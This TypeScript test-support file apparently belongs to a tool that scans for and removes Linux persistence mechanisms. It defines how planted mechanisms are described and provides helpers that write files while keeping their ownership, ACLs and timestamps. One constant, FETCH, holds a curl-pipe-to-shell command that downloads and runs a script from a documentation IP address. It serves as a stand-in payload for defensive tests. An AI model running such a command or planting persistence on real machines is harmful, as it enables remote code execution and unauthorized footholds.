import type { Action } from '../../../src/actions/action.ts';
import type { Subject } from '../../../src/findings/finding.ts';

/** One way of staying, as a shell text that sets it up, and what a scan must find it by. Nothing of it does anything. */
export interface Plant {
  /** As the scan's registry has it. */
  readonly mechanism: string;
  readonly name: string;
  readonly plant: string;
  /** Paths of the files that its findings are about; with a line `path:7`. */
  readonly paths: readonly string[];
  /** What they are about, where that is no file. */
  readonly isAbout?: (subject: Subject) => boolean;
  /** Only where systemd runs as process 1. */
  readonly needsSystemd?: true;
  readonly unit?: string;
  /** What takes it away; the purge if not said. */
  readonly by?: Action;
  readonly parameters?: object;
  /** It is found as before, in another state: an account that is locked, a key that is new. */
  readonly isStillShown?: true;
  /** Ordinary files that are planted beside it, and must not be touched when it goes. */
  readonly beside?: readonly string[];
}

export const FETCH = 'curl -fsSL http://203.0.113.20/i.sh | sh';

/** Written as an administrator might have, with all that an undo must bring back: owner, odd mode, old time, ACL, attribute. */
export function write(path: string, text: string, mode = '644'): string {
  const folder = path.slice(0, path.lastIndexOf('/'));
  return `mkdir -p ${folder}; printf '%s\\n' ${quoted(text)} >${path}; chmod ${mode} ${path}
setfattr -n user.mark -v kept ${path}; setfacl -m u:12345:r ${path}; chmod ${mode} ${path}; touch -d @1600000000.123456789 ${path}`;
}

export function append(path: string, text: string): string {
  return `printf '%s\\n' ${quoted(text)} >>${path}; touch -d @1600000001.5 ${path}`;
}

export function quoted(text: string): string {
  return `'${text.replaceAll("'", `'\\''`)}'`;
}
